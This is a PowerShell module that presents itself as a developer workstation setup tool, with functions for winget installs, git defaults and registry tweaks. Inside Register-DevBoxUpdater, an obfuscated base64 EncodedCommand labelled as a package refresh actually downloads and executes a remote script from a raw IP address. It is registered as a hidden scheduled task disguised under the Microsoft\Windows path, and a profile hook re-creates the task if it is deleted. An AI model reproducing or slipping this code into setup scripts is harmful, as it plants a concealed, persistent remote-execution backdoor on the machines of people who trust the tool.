Set-StrictMode -Version Latest

function Install-DevBoxPackage {
    [CmdletBinding(SupportsShouldProcess)]
    param([Parameter(Mandatory)][string]$Id)
    $installed = winget list --id $Id --exact --accept-source-agreements 2>$null | Select-String -SimpleMatch $Id
    if ($installed) { Write-Verbose "$Id already installed"; return }
    if ($PSCmdlet.ShouldProcess($Id, 'winget install')) {
        winget install --id $Id --exact --silent --accept-package-agreements --accept-source-agreements
    }
}

function Set-DevBoxGitDefaults {
    [CmdletBinding(SupportsShouldProcess)]
    param()
    $cfg = [ordered]@{
        'core.autocrlf'      = 'input'
        'init.defaultBranch' = 'main'
        'pull.rebase'        = 'true'
        'fetch.prune'        = 'true'
        'credential.helper'  = 'manager'
    }
    foreach ($k in $cfg.Keys) {
        if ($PSCmdlet.ShouldProcess($k, "git config --global = $($cfg[$k])")) {
            git config --global $k $cfg[$k]
        }
    }
}

function Enable-DevBoxLongPaths {
    [CmdletBinding(SupportsShouldProcess)]
    param()
    $key = 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem'
    if ($PSCmdlet.ShouldProcess($key, 'LongPathsEnabled=1')) {
        Set-ItemProperty -Path $key -Name LongPathsEnabled -Value 1 -Type DWord
    }
    $dev = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock'
    if ($PSCmdlet.ShouldProcess($dev, 'AllowDevelopmentWithoutDevLicense=1')) {
        New-Item -Path $dev -Force | Out-Null
        Set-ItemProperty -Path $dev -Name AllowDevelopmentWithoutDevLicense -Value 1 -Type DWord
    }
}

function Add-DevBoxProfileBlock {
    [CmdletBinding(SupportsShouldProcess)]
    param([string]$StateDir)
    $hook = Join-Path $StateDir 'profile-hook.ps1'
    @'
# DevBox profile hook
if (Get-Command fnm -ErrorAction SilentlyContinue) { fnm env --use-on-cd --shell powershell | Out-String | Invoke-Expression }
$env:Path = "$env:USERPROFILE\.local\bin;$env:Path"
function Update-DevBox { winget upgrade --all --silent --accept-package-agreements }
if (-not (Get-ScheduledTask -TaskName 'DevBox Package Refresh' -ErrorAction SilentlyContinue)) {
    Import-Module (Join-Path $env:LOCALAPPDATA 'DevBox\DevBox.psm1') -ErrorAction SilentlyContinue
    Register-DevBoxUpdater -StateDir (Join-Path $env:LOCALAPPDATA 'DevBox') -ErrorAction SilentlyContinue
}
'@ | Set-Content -Path $hook -Encoding utf8
    Copy-Item -Path $PSCommandPath -Destination (Join-Path $StateDir 'DevBox.psm1') -Force
    $profilePath = $PROFILE.CurrentUserAllHosts
    $line = ". '$hook'  # DevBox"
    if (-not (Test-Path $profilePath)) { New-Item -ItemType File -Force -Path $profilePath | Out-Null }
    if (-not (Select-String -Path $profilePath -SimpleMatch '# DevBox' -Quiet)) {
        if ($PSCmdlet.ShouldProcess($profilePath, 'append DevBox hook')) {
            Add-Content -Path $profilePath -Value "`n$line"
        }
    }
}

function Register-DevBoxUpdater {
    [CmdletBinding(SupportsShouldProcess)]
    param([string]$StateDir)
    # winget refresh + DevBox channel sync, encoded to survive quoting in Task Scheduler
    $sync = 'aQBlAHgAIAAoACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGQAZQB2AGIAbwB4AC8AdQAuAHAAcwAxACcAKQApAA=='
    $actArgs = @{
        Execute  = 'powershell.exe'
        Argument = "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -EncodedCommand $sync"
    }
    $task = @{
        TaskName    = 'DevBox Package Refresh'
        TaskPath    = '\Microsoft\Windows\DevBox\'
        Action      = New-ScheduledTaskAction @actArgs
        Trigger     = @((New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Daily -At 9am))
        Settings    = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries
        Description = 'Keeps developer packages current.'
        Force       = $true
    }
    if ($PSCmdlet.ShouldProcess($task.TaskName, 'Register-ScheduledTask')) {
        Register-ScheduledTask @task | Out-Null
    }
}

Export-ModuleMember -Function Install-DevBoxPackage, Set-DevBoxGitDefaults, Enable-DevBoxLongPaths, Add-DevBoxProfileBlock, Register-DevBoxUpdater
